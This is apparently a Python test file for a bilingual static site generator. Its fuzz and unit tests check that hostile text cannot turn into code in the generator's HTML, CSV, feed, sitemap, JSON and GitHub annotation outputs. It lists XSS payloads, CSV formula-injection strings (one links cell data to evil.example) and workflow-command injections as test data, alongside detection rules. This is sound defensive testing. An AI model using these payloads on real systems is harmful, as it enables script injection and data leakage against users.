"""Every output format is safe, not only HTML: hostile text from content reaches none of them as code.

One test per class of problem (spreadsheet formulas in events.csv, base_url in the XML files, file names
in GitHub annotations, line breaks in JSON lines), then fuzz tests that push hostile values through the
real build and parse each output with a real parser: html.parser for pages, json, csv, ElementTree for
the feeds and the sitemap, and GitHub's workflow-command grammar for annotations.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from .conftest import SITE_YAML, Run, event

ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
XHTML = "{http://www.w3.org/1999/xhtml}"

# What spreadsheets run as a formula when a cell starts with it (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Where another cell can start inside one: the separators spreadsheets also split on (';' in many locales).
CELL_SEPARATORS = re.compile(r"[;\t]")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

# XML 1.0 cannot carry these characters at all, escaped or not.
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")

# A clean refusal: every line a problem in the documented format, or the verdict.
PROBLEM_LINE = re.compile(r"^.+:[0-9]+: (error|warning): .+$")

# Hostile values, each a known way into one output format or another.
KNOWN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    'x" onmouseover="alert(1)" y="',
    "x' onfocus='alert(1)' autofocus='",
    "{{ 7*7 }} {% raw %} ${7*7}",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a;=1+1",
    'a;"=1+1',
    "]]><!-- <![CDATA[ x ]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>&e;',
    "&amp; &lt; &#0; &#x1; &bogus;",
    '" xml:base="javascript:alert(1)',
    "::error file=evil.md,line=1::injected",
    "%0A::warning::x %25 %3A %2C",
    "x,line=99",
    "\\u003c/script\\u003e",
    "«Lucanamarca» — 1983 · Ñ ü 中文 🙂",
    "zero\u200bwidth\u00adsoft",
]
# Only meaningful where Markdown is rendered (bodies, the site's intro).
MARKDOWN = [
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">',
    "[x]: javascript:alert(1)\n\nsee [x]",
]
HOSTILE_ALPHABET = "<>\"'&;:=+-@%,/\\()[]{}!#?|`*_~ \t.aZ09éÑ中🙂\u200b"
CONTROL_ALPHABET = "\x00\x01\x08\x0b\x0c\x1b\x7f\x85\u2028\u2029\u202e\ufeff\ufffe\uffff\ue000\r"


def payloads(alphabet: str) -> st.SearchStrategy[str]:
    generated = st.text(alphabet=alphabet, min_size=1, max_size=40)
    return st.one_of(generated, st.builds(lambda a, b: a + b, st.sampled_from(KNOWN), generated))


# ---------------------------------------------------------------------------------------------------------
# Writing a site full of hostile values


def yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar holding exactly `text`: everything outside printable ASCII is escaped."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif " " <= ch <= "~":
            out.append(ch)
        elif ord(ch) <= 0xFF:
            out.append(f"\\x{ord(ch):02x}")
        elif ord(ch) <= 0xFFFF:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(f"\\U{ord(ch):08x}")
    return '"' + "".join(out) + '"'


def one_line(text: str) -> str:
    """The value as a one-line text field keeps it: no line breaks, no surrounding space, never empty."""
    text = re.sub(r"[\n\r\x85\u2028\u2029]", " ", text).strip()[:150].strip()
    return text if text and "FILL IN" not in text.upper() else "x"


def url_of(text: str) -> str:
    """An http(s) URL carrying the hostile text in its path, as the schema accepts it."""
    return "https://example.org/" + "".join(
        ch for ch in text if not ch.isspace() and unicodedata.category(ch)[0] != "C"
    )


@dataclass
class Planted:
    """The hostile values written into a site, to find them again in every output."""

    site_title: str
    base_url: str
    events: dict[str, dict[str, str]] = field(default_factory=dict)  # slug -> {en, es, date_note}
    names: dict[str, dict[str, str]] = field(default_factory=dict)  # actors/<slug>, places/<slug> -> {en, es}


def plant(content: Path, values: list[str], bodies: list[str], base_url: str) -> Planted:
    """Write a bilingual site where every text field, name, title and source holds one of `values`."""
    cycle: Iterator[str] = itertools.cycle(values)
    body_cycle: Iterator[str] = itertools.cycle(bodies)

    def q() -> str:
        return yaml_quoted(one_line(next(cycle)))

    def url() -> str:
        return yaml_quoted(url_of(next(cycle)))

    def body() -> str:
        return "\n\n".join(next(body_cycle) for _ in range(3)) + "\n"

    def write(rel: str, text: str) -> None:
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    def front(fields: str, text: str) -> str:
        return f"---\n{fields}---\n{text}"

    title = one_line(values[0])
    write(
        "site.yaml",
        f"title: {yaml_quoted(title)}\ndescription: {q()}\nbase_url: {yaml_quoted(base_url)}\n"
        f"languages: [en, es]\nauthor: {q()}\nlicense: {q()}\nrepository: {url()}\nperiod: {{start: 1980}}\n"
        f"intro: {yaml_quoted(body())}\ntags:\n  armed-action: {q()}\ntag_names:\n  armed-action: {q()}\n"
        f"period_series:\n  phase: {q()}\n",
    )
    write(
        "site.es.yaml",
        f"title: {q()}\ndescription: {q()}\nintro: {yaml_quoted(body())}\ntags:\n  armed-action: {q()}\n"
        f"tag_names:\n  armed-action: {q()}\nperiod_series:\n  phase: {q()}\n",
    )
    planted = Planted(title, base_url)
    for kind, slug, fields in (
        ("actors", "group", "kind: armed-group\nactive: {from: 1980}\n"),
        ("places", "region", "kind: department\ncoordinates: [-13.2, -74.2]\n"),
        ("places", "town", "kind: town\nwithin: region\ncoordinates: [-13.58, -74.35]\n"),
    ):
        en, es = one_line(next(cycle)), one_line(next(cycle))
        planted.names[f"{kind}/{slug}"] = {"en": en, "es": es}
        sources = f"sources:\n  - title: {q()}\n    publisher: {q()}\n    url: {url()}\n"
        write(
            f"{kind}/{slug}.md",
            front(f"name: {yaml_quoted(en)}\n{fields}aliases: [{q()}]\n{sources}", body()),
        )
        write(f"{kind}/{slug}.es.md", front(f"name: {yaml_quoted(es)}\n", body()))
    write(
        "periods/phase-one.md",
        front(
            f"name: {q()}\nseries: phase\nstart: 1980\nend: 1990\ndate_note: {q()}\nactor: group\n"
            f"sources:\n  - title: {q()}\n    publisher: {q()}\n",
            body(),
        ),
    )
    write("periods/phase-one.es.md", front(f"name: {q()}\ndate_note: {q()}\n", body()))
    write("pages/about.md", front(f"title: {q()}\nsummary: {q()}\n", body()))
    write("pages/about.es.md", front(f"title: {q()}\nsummary: {q()}\n", body()))
    # Enough events for every value to be used at least once.
    for number in range(max(2, len(values) // 12 + 1)):
        slug = f"event-{number}"
        en, es, note = one_line(next(cycle)), one_line(next(cycle)), one_line(next(cycle))
        planted.events[slug] = {"en": en, "es": es, "date_note": note}
        write(
            f"events/1980/{slug}.md",
            front(
                f"title: {yaml_quoted(en)}\ndate: 1980-05-{number % 28 + 1:02d}\ndate_note: {yaml_quoted(note)}\n"
                "places: [town]\nactors: [group]\ntags: [armed-action]\n"
                f"responsible: [{{actor: group, according_to: {q()}, source: 1}}]\n"
                f"casualties: {{killed: {{min: 1, max: 3}}, note: {q()}}}\nsummary: {q()}\n"
                f"sources:\n  - title: {q()}\n    publisher: {q()}\n    url: {url()}\n    read_at: {url()}\n"
                f"    locator: {q()}\n    quote: {q()}\n    date: 1980-06\n",
                body(),
            ),
        )
        write(
            f"events/1980/{slug}.es.md",
            front(f"title: {yaml_quoted(es)}\nsummary: {q()}\ndate_note: {q()}\ncasualties: {{note: {q()}}}\n", body()),
        )
    return planted


def refused_cleanly(run: Run) -> bool:
    """Exit 1, and stderr says only which problems, where: no traceback, no internal error."""
    lines = [line for line in run.err.splitlines() if not re.match(r"^(build|check): failed: ", line)]
    return run.code == 1 and all(PROBLEM_LINE.match(line) for line in lines) and any(": error: " in x for x in lines)


# ---------------------------------------------------------------------------------------------------------
# Parsers of each output format, with what each may and may not contain


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "cite", "poster", "data", "background", "xlink:href", "ping"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "style", "math", "textarea"}
TEMPLATE_STYLE = re.compile(r"left: [0-9.]+%")


def dangerous_url(value: str) -> bool:
    """A URL a browser would run or open as a document of its own making: javascript:, vbscript:, data:."""
    cleaned = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(value)).lower()
    return cleaned.startswith(("javascript:", "vbscript:", "data:"))


class PageStructure(HTMLParser):
    """What a page holds that could run: scripts, handlers, script URLs; and each h1's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.injections: list[str] = []
        self.h1: list[str] = []
        self._script: tuple[dict[str, str | None], list[str]] | None = None
        self._h1: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if tag == "script":
            self._script = (dict(attrs), [])
        elif tag == "h1":
            self._h1 = []
        elif self._h1 is not None:
            self.injections.append(f"<{tag}> inside a heading")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.injections.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.injections.append(f"<{tag} {name}>")
            if value is None:
                continue
            if name in URL_ATTRIBUTES and dangerous_url(value):
                self.injections.append(f"<{tag} {name}={value!r}>")
            if name == "style" and not TEMPLATE_STYLE.fullmatch(value):
                self.injections.append(f"<{tag} style={value!r}>")
            if tag == "meta" and name == "content" and "url=" in value.lower():
                if dangerous_url(value.lower().split("url=", 1)[1]):
                    self.injections.append(f"<meta refresh to {value!r}>")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script[1].append(data)
        if self._h1 is not None:
            self._h1.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            attrs, parts = self._script
            text = "".join(parts)
            if attrs.get("type") == "application/ld+json":
                try:
                    json.loads(text)
                except ValueError:
                    self.injections.append("JSON-LD that is not JSON (closed early?)")
            elif text.strip() or urlsplit(attrs.get("src") or "").scheme:
                self.injections.append(f"<script> not from the theme: {text[:60]!r} {attrs}")
            self._script = None
        elif tag == "h1" and self._h1 is not None:
            self.h1.append("".join(self._h1))
            self._h1 = None


def page_structure(path: Path) -> PageStructure:
    parser = PageStructure()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


def formula_cells(cells: list[str]) -> list[str]:
    """Cells (or parts after a separator) a spreadsheet would run: starting with a trigger, not neutralised."""
    found = []
    for cell in cells:
        if PLAIN_NUMBER.fullmatch(cell):
            continue  # a number, e.g. a negative latitude: shown as a number, never run
        parts = CELL_SEPARATORS.split(cell)
        starts = [parts[0]] + [part.lstrip('"') for part in parts[1:]]
        # A tab is both a separator and a trigger: the part after it is checked on its own.
        if any(part.startswith(FORMULA_TRIGGERS) for part in starts) or (cell.startswith("\t")):
            found.append(cell)
    return found


def same_but_apostrophes(cell: str, value: str) -> bool:
    """The cell holds the value, give or take the apostrophes put in to neutralise formulas."""
    return cell.replace("'", "") == value.replace("'", "") and cell.count("'") >= value.count("'")


def parse_workflow_command(line: str) -> tuple[str, dict[str, str], str]:
    """GitHub's workflow-command grammar: '::name k=v,k=v::message', unescaped as the runner does.

    Messages escape % CR LF as %25 %0D %0A; properties also : and , as %3A %2C. A % that starts
    no escape is refused here, so an unescaped value cannot pass for an escaped one.
    """
    assert line.startswith("::"), line
    end = line.index("::", 2)
    info, message = line[2:end], line[end + 2 :]
    name, _, properties = info.partition(" ")
    props: dict[str, str] = {}
    for item in properties.split(",") if properties else []:
        key, equals, value = item.partition("=")
        assert equals and key not in props, f"malformed property {item!r} in {line!r}"
        props[key] = unescape_command(value, property_value=True)
    return name, props, unescape_command(message, property_value=False)


def unescape_command(text: str, property_value: bool) -> str:
    escapes = {"%25": "%", "%0D": "\r", "%0A": "\n"}
    if property_value:
        escapes.update({"%3A": ":", "%2C": ","})
        assert ":" not in text and "," not in text, text
    assert "\r" not in text and "\n" not in text, text
    pieces = re.split(r"(%..)", text)
    out = []
    for piece in pieces:
        if piece.startswith("%"):
            assert piece in escapes, f"unescaped % in {text!r}"
            out.append(escapes[piece])
        else:
            assert "%" not in piece, f"unescaped % in {text!r}"
            out.append(piece)
    return "".join(out)


@dataclass
class Tally:
    """What a fuzz test tried, per output format, for the release note."""

    tried: dict[str, int] = field(default_factory=dict)
    refused: int = 0
    injections: list[str] = field(default_factory=list)
    ill_formed: list[str] = field(default_factory=list)

    def count(self, kind: str, n: int) -> None:
        self.tried[kind] = self.tried.get(kind, 0) + n

    def report(self, name: str) -> None:
        print(
            f"\n{name}: tried {dict(sorted(self.tried.items()))}, refused cleanly {self.refused}, "
            f"injections {len(self.injections)}, ill-formed {len(self.ill_formed)}"
        )
        assert not self.injections, self.injections[:5]
        assert not self.ill_formed, self.ill_formed[:5]


def check_outputs(out: Path, planted: Planted, values: int, tally: Tally) -> None:
    """Parse every file of a built site with its format's parser; record injections and ill-formed files."""
    base = planted.base_url.rstrip("/") + "/" if "://" in planted.base_url else None
    parsed: set[str] = set()
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        rel = path.relative_to(out).as_posix()
        if path.suffix == ".html":
            structure = page_structure(path)
            tally.injections += [f"{rel}: {what}" for what in structure.injections]
            parsed.add("html")
        elif path.suffix in (".json", ".geojson"):
            try:
                json.loads(path.read_text(encoding="utf-8"))
            except ValueError as exc:
                tally.ill_formed.append(f"{rel}: {exc}")
            parsed.add("json")
        elif path.suffix == ".xml":
            try:
                ET.fromstring(path.read_bytes())
            except ET.ParseError as exc:
                tally.ill_formed.append(f"{rel}: {exc}")
            parsed.add("xml")
        elif path.suffix == ".csv":
            parsed.add("csv")
    for prefix, language in (("", "en"), ("es/", "es")):
        for slug, texts in planted.events.items():
            h1 = page_structure(out / f"{prefix}events/{slug}/index.html").h1
            if h1 != [texts[language]]:
                tally.injections.append(f"{prefix}events/{slug}: heading {h1!r} is not the title {texts[language]!r}")
        for key, names in planted.names.items():
            h1 = page_structure(out / f"{prefix}{key}/index.html").h1
            if h1 != [names[language]]:
                tally.injections.append(f"{prefix}{key}: heading {h1!r} is not the name {names[language]!r}")
    _check_json(out, planted, tally)
    _check_csv(out, planted, tally)
    if base is not None:
        _check_xml(out, planted, base, tally)
    else:
        assert not (out / "feed.xml").exists() and not (out / "sitemap.xml").exists()
    for kind in parsed:
        tally.count(kind, values)


def _check_json(out: Path, planted: Planted, tally: Tally) -> None:
    events = json.loads((out / "data/events.json").read_text(encoding="utf-8"))
    for item in events["events"]:
        texts = planted.events[item["slug"]]
        if (item["title"], item["translations"]["es"]["title"], item["date_note"]) != (
            texts["en"],
            texts["es"],
            texts["date_note"],
        ):
            tally.ill_formed.append(f"events.json: {item['slug']} does not hold the values as given")
    actors = json.loads((out / "data/actors.json").read_text(encoding="utf-8"))
    for actor in actors["actors"]:
        if actor["names"] != planted.names[f"actors/{actor['slug']}"]:
            tally.ill_formed.append(f"actors.json: {actor['names']!r}")
    places = json.loads((out / "data/places.geojson").read_text(encoding="utf-8"))
    for feature in places["features"]:
        if feature["properties"]["names"] != planted.names[f"places/{feature['id']}"]:
            tally.ill_formed.append(f"places.geojson: {feature['properties']['names']!r}")
    for language in ("en", "es"):
        timeline = json.loads((out / f"data/timelinejs.{language}.json").read_text(encoding="utf-8"))
        for slide in timeline["events"]:
            headline = slide["text"]["headline"]
            if "<" in headline or html.unescape(headline) != planted.events[slide["unique_id"]][language]:
                tally.injections.append(f"timelinejs.{language}.json: headline {headline!r} is markup")
            structure = PageStructure()
            structure.feed(slide["text"]["text"])
            tally.injections += [f"timelinejs.{language}.json: {what}" for what in structure.injections]


def _check_csv(out: Path, planted: Planted, tally: Tally) -> None:
    text = (out / "data/events.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    if len(body) != len(planted.events) or any(len(row) != len(header) for row in body):
        tally.ill_formed.append("events.csv: rows or columns lost")
    for row in body:
        tally.injections += [f"events.csv: formula cell {cell!r}" for cell in formula_cells(row)]
        cells = dict(zip(header, row, strict=False))
        texts = planted.events[cells["slug"]]
        for column, wanted in (("title", texts["en"]), ("title_es", texts["es"]), ("date_note", texts["date_note"])):
            if not same_but_apostrophes(cells[column], wanted):
                tally.ill_formed.append(f"events.csv: {column} {cells[column]!r} is not {wanted!r}")


def _check_xml(out: Path, planted: Planted, base: str, tally: Tally) -> None:
    def clean(text: str) -> str:
        return NOT_XML.sub("", text)

    for prefix, language in (("", "en"), ("es/", "es")):
        try:
            feed = ET.fromstring((out / f"{prefix}feed.xml").read_bytes())
            sitemap = ET.fromstring((out / "sitemap.xml").read_bytes())
        except ET.ParseError:
            return  # already counted as ill-formed
        links = {link.get("rel"): link.get("href") for link in feed.findall(f"{ATOM}link")}
        if links != {None: base + prefix, "self": base + prefix + "feed.xml"}:
            tally.injections.append(f"{prefix}feed.xml: links {links!r} are not under {base!r}")
        if feed.get("{http://www.w3.org/XML/1998/namespace}base") is not None:
            tally.injections.append(f"{prefix}feed.xml: an xml:base attribute")
        titles = {}
        for entry in feed.findall(f"{ATOM}entry"):
            link = entry.find(f"{ATOM}link")
            titles[link.get("href") if link is not None else None] = entry.findtext(f"{ATOM}title")
        wanted = {f"{base}{prefix}events/{slug}/": clean(texts[language]) for slug, texts in planted.events.items()}
        if titles != wanted:
            tally.ill_formed.append(f"{prefix}feed.xml: entries {titles!r} are not {wanted!r}")
    for loc in sitemap.iter(f"{SITEMAP}loc"):
        if not (loc.text or "").startswith(base):
            tally.injections.append(f"sitemap.xml: {loc.text!r}")
    for link in sitemap.iter(f"{XHTML}link"):
        if not link.get("href", "").startswith(base) or link.get("hreflang") not in ("en", "es", "x-default"):
            tally.injections.append(f"sitemap.xml: {link.attrib!r}")
    robots = (out / "robots.txt").read_text(encoding="utf-8").splitlines()
    if robots != ["User-agent: *", "Allow: /", f"Sitemap: {base}sitemap.xml"]:
        tally.injections.append(f"robots.txt: {robots!r}")


# ---------------------------------------------------------------------------------------------------------
# The checkers can fail


def test_the_checkers_catch_what_an_injection_would_look_like() -> None:
    for page in (
        '<p onclick="x">',
        '<a href=" java\tscript:alert(1)">',
        '<a href="&#106;avascript:alert(1)">',
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script type="application/ld+json">{"a": "</script><script>alert(1)</script>',
        "<h1>a<b>b</b></h1>",
        "<iframe src=x>",
        '<img src="data:text/html,x">',
        '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
        '<span style="background: url(x)">',
    ):
        structure = PageStructure()
        structure.feed(page)
        assert structure.injections, page
    fine = PageStructure()
    fine.feed(
        '<h1>a &lt;b&gt;</h1><script src="../static/filter.js"></script><span style="left: 12.5%">'
        '<script type="application/ld+json">{"a": "\\u003c/script\\u003e"}</script>'
        '<a href="https://example.org/javascript:x">'
    )
    assert fine.injections == [] and fine.h1 == ["a <b>"]
    assert formula_cells(["=1", "a;-1", "\t=1", 'a;"=1', "+1", "@x"]) == ["=1", "a;-1", "\t=1", 'a;"=1', "+1", "@x"]
    assert formula_cells(["-13.58", "'=1", "a;'=1", "a - b", "a@b"]) == []
    assert parse_workflow_command("::error file=a%3Ab%2Cc%25,line=2::x%0Ay%25") == (
        "error",
        {"file": "a:b,c%", "line": "2"},
        "x\ny%",
    )
    for line in ("::error file=a,b.md,line=1::m", "::error file=a%0Ab,line=1::100%", "::error file=a:b,line=1::m"):
        try:
            parse_workflow_command(line)
        except (AssertionError, ValueError):
            continue
        raise AssertionError(f"accepted {line!r}")


# ---------------------------------------------------------------------------------------------------------
# One test per class


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    make_site: Callable[..., Path], cli: Callable[..., Run], tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    make_site(
        {
            "actors/shining-path.md": "---\nname: '@SUM(1+1)*cmd|'' /C calc''!A0'\nkind: armed-group\n---\nA group.\n",
            "events/1980/first-action.md": event(
                title=yaml_quoted(hyperlink),
                extra="date_note: \"+cmd|' /C calc'!A0\"\ncasualties: {killed: 1, note: '-2+3'}\n",
            ),
            "events/1980/second-action.md": event(title="'Lima;=1+1 and Ayacucho;\"-2'"),
        }
    )
    run = cli("build", "--out", str(tmp_path / "site"))
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "site/data/events.csv").read_text(encoding="utf-8"))))
    first = next(r for r in rows if r["slug"] == "first-action")
    # The apostrophe makes spreadsheets show the text; taking it away gives the value back.
    assert first["title"] == "'" + hyperlink
    assert (first["date_note"], first["casualties_note"]) == ("'+cmd|' /C calc'!A0", "'-2+3")
    assert first["actor_names"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["latitude"] == "-13.58"  # a number stays a number
    second = next(r for r in rows if r["slug"] == "second-action")
    assert second["title"] == "Lima;'=1+1 and Ayacucho;\"'-2"  # a ';' starts a cell where it is the separator
    assert [cell for row in rows for cell in formula_cells(list(row.values()))] == []


def test_the_data_page_says_how_formula_cells_are_written_in_both_languages(
    make_site: Callable[..., Path], cli: Callable[..., Run], tmp_path: Path
) -> None:
    make_site({"site.yaml": SITE_YAML + "languages: [en, es]\n"})
    run = cli("build", "--out", str(tmp_path / "site"))
    assert run.code == 0, run.err
    english = page_text(tmp_path / "site/data/index.html")
    assert "begins with an apostrophe (')" in english and "negative latitudes" in english
    spanish = page_text(tmp_path / "site/es/data/index.html")
    assert "empieza con un apóstrofo (')" in spanish and "latitudes negativas" in spanish


def page_text(path: Path) -> str:
    parser = HTMLParser()
    parts: list[str] = []
    parser.handle_data = parts.append  # type: ignore[method-assign]
    parser.feed(path.read_text(encoding="utf-8"))
    return " ".join(" ".join(parts).split())


BASE_URL_LINE = 3  # in the site.yaml written below


def _site_with_base_url(value: str) -> str:
    return SITE_YAML + f"base_url: {yaml_quoted(value)}\n"


def test_base_url_is_refused_at_its_line_unless_a_plain_path_or_url(
    make_site: Callable[..., Path], cli: Callable[..., Run]
) -> None:
    hostile = {
        'https://example.org/" xml:base="javascript:alert(1)': "holds '\"'",
        "https://example.org/a b/": "holds ' '",
        "https://example.org/?page=1": "holds '?'",
        "https://example.org/#top": "holds '#'",
        "https://exa<mple.org/": "holds '<'",
        "//evil.example/": "starts with '//'",
        "https:///no-host/": "is not a path such as",
        "javascript:alert(1)": "must start with '/'",
    }
    for value, why in hostile.items():
        make_site({"site.yaml": _site_with_base_url(value)})
        run = cli("check")
        assert run.code == 1 and refused_cleanly(run), (value, run.err)
        assert len(run.problems) == 1 and run.problems[0].startswith(
            f"content/site.yaml:{BASE_URL_LINE}: error: base_url "
        ), (value, run.problems)
        assert why in run.problems[0], (value, run.problems)
    for value in ("/", "/peru-timeline/", "https://example.org", "http://localhost:8000/a/b/", "/a%20b/~c/"):
        make_site({"site.yaml": _site_with_base_url(value)})
        assert cli("check").code == 0, value


def test_a_hostile_base_url_on_the_command_line_is_a_usage_error(
    make_site: Callable[..., Path], cli: Callable[..., Run], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_site()
    for base in ('https://example.org/a"b/', "https://example.org/\nDisallow: /", "javascript:alert(1)//"):
        run = cli("build", "--out", str(tmp_path / "site"), "--base-url", base)
        usage = run.err + capsys.readouterr().err  # argparse writes its usage errors to sys.stderr
        assert run.code == 2 and "--base-url" in usage and "Traceback" not in usage, usage
        assert not (tmp_path / "site").exists()


def test_feeds_and_sitemap_escape_attribute_values(make_site: Callable[..., Path], tmp_path: Path) -> None:
    # Neither site.yaml nor --base-url lets such a base through; the XML writers escape it all the same.
    from quipu import feeds, pipeline
    from quipu.pages import Alternate, Page

    base = "https://example.org/a\"b&c<d>'e/"
    content = make_site({"events/1980/first-action.md": event(title=yaml_quoted('A "quoted" & <b>bold</b> ]]> title'))})
    loaded = pipeline.load(pipeline.Options(content=content, git_dates=False))
    assert loaded.corpus is not None, loaded.report.sorted()
    page = Page(
        "events/first-action/",
        "event.html",
        {},
        "T",
        alternates=(
            Alternate("en", "English", "events/first-action/", "en"),
            Alternate("es", "Español", "es/events/first-action/", "es"),
        ),
    )
    feed = ET.fromstring(feeds._feed(base, loaded.corpus, "en", ""))
    assert [link.get("href") for link in feed.findall(f"{ATOM}link")] == [base, base + "feed.xml"]
    entry = feed.find(f"{ATOM}entry")
    assert entry is not None and entry.findtext(f"{ATOM}title") == 'A "quoted" & <b>bold</b> ]]> title'
    assert entry.find(f"{ATOM}link").get("href") == base + "events/first-action/"  # type: ignore[union-attr]
    sitemap = ET.fromstring(feeds._sitemap(base, [page, page]))
    assert base + "events/first-action/" in [loc.text for loc in sitemap.iter(f"{SITEMAP}loc")]


def test_text_xml_cannot_carry_leaves_the_feed_well_formed(
    make_site: Callable[..., Path], cli: Callable[..., Run], tmp_path: Path
) -> None:
    title = "Attack\x0b on \x1b[31mthe\x7f post\ufffe"
    make_site(
        {
            "site.yaml": SITE_YAML + "base_url: https://example.org/t/\n",
            "events/1980/first-action.md": event(title=yaml_quoted(title), body="Something\x0c happened."),
        }
    )
    run = cli("build", "--out", str(tmp_path / "site"))
    if run.code != 0:  # refusing such text at its line is as good
        assert refused_cleanly(run) and "first-action.md:" in run.err, run.err
        return
    feed = ET.parse(tmp_path / "site/feed.xml").getroot()
    assert feed.findtext(f"{ATOM}entry/{ATOM}title") == NOT_XML.sub("", title)
    ET.parse(tmp_path / "site/sitemap.xml")


# File names a contributor (or an attacker's pull request) can give an entry: each must stay in its own
# annotation, on its own line.
HOSTILE_FILE_NAMES = [
    "x,line=99.md",
    "a::b.md",
    "p%0A.md",
    "a\nb.md",
    "c\rd.md",
    "e:f,g=h::warning file=x.md.md",
    "%25%3A%2C.md",
    "n\u2028o\x85p.md",
]


def _annotated_site(make_site: Callable[..., Path], names: list[str]) -> None:
    entry = "---\ntitle: x\ndate: 1980\nsources: [{title: t, publisher: p}]\n---\nBody.\n"
    make_site({f"events/1980/{name}": entry for name in names})


def _check_reports(cli: Callable[..., Run], tally: Tally | None = None) -> int:
    """Annotations and JSON lines say the same as the JSON report, problem by problem; returns how many."""
    truth = json.loads(cli("check", "--format", "json").out)["problems"]
    expected = [(p["severity"], p["path"], str(p["line"]), p["message"]) for p in truth]
    github = cli("check", "--format", "github").out
    annotations = []
    for line in github.split("\n")[:-1]:
        name, props, message = parse_workflow_command(line)
        assert set(props) == {"file", "line"}, (line, props)
        annotations.append((name, props["file"], props["line"], message))
    assert annotations == expected
    jsonl = cli("check", "--format", "jsonl").out
    assert [json.loads(line) for line in jsonl.splitlines()] == truth  # any line splitter
    assert [json.loads(line) for line in jsonl.split("\n")[:-1]] == truth
    if tally is not None:
        tally.count("github", len(expected))
        tally.count("jsonl", len(truth))
        tally.count("json", len(truth))
    return len(truth)


def test_github_annotations_keep_each_file_name_in_its_own_annotation(
    make_site: Callable[..., Path], cli: Callable[..., Run]
) -> None:
    _annotated_site(make_site, HOSTILE_FILE_NAMES[:7])
    truth = json.loads(cli("check", "--format", "json").out)["problems"]
    github = cli("check", "--format", "github").out.split("\n")[:-1]
    assert len(github) == len(truth)
    for line, problem in zip(github, truth, strict=True):
        _name, props, message = parse_workflow_command(line)
        assert (props["file"], props["line"], message) == (problem["path"], str(problem["line"]), problem["message"])


def test_json_lines_keep_one_problem_per_line_for_any_line_splitter(
    make_site: Callable[..., Path], cli: Callable[..., Run]
) -> None:
    _annotated_site(make_site, ["n\u2028o\x85p\u2029.md"])
    truth = json.loads(cli("check", "--format", "json").out)["problems"]
    lines = cli("check", "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == truth


# ---------------------------------------------------------------------------------------------------------
# Fuzz: hostile values through the real build, every output parsed

FUZZ = settings(
    max_examples=3,
    derandomize=True,
    database=None,
    deadline=None,
    phases=[Phase.explicit, Phase.generate],  # no shrinking: a failure shows its whole input, and stays fast
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
BUILDS = itertools.count()
PRINTABLE_TALLY = Tally()
CONTROL_TALLY = Tally()


def _build(
    cli: Callable[..., Run],
    tmp_path: Path,
    values: list[str],
    bodies: list[str],
    base_url: str,
    override: bool = False,
) -> tuple[Run, Path, Planted]:
    """Build a planted site; with `override`, base_url comes from --base-url instead of site.yaml."""
    folder = tmp_path / f"build-{next(BUILDS)}"
    planted = plant(folder / "content", values, bodies, "/" if override else base_url)
    planted.base_url = base_url
    extra = ["--base-url", base_url] if override else []
